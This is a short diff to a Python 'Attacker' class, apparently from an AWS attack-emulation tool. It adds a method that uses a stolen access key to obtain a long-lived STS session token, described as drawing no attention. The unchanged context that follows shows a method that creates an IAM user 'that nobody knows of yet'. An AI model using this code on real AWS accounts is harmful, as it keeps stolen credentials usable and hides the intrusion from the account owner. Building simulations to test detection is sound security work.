@@ -123,6 +123,15 @@ class Attacker:
             "sts:GetSessionToken", victim, lambda: sts.get_session_token(DurationSeconds=129600)))  # fmt: skip
         return acts
 
+    def saves(self, key: Loot) -> dict[str, Any]:
+        """Save a session of a key for later; nothing that would draw attention. Returns the act."""
+        self.loot, code = {"key": key}, ""
+        try:
+            self._take("saved-session", self.client("sts", key).get_session_token(DurationSeconds=129600))
+        except ClientError as exc:
+            code = str(exc.response["Error"]["Code"])
+        return {"act": "sts:GetSessionToken", "ok": not code, "code": code, "made": "ferry-ci"}
+
     def comes_back(self) -> str:
         """Use the key once more: a user that nobody knows of yet. Returns its name."""
         iam = self.client("iam", self.loot["key"])
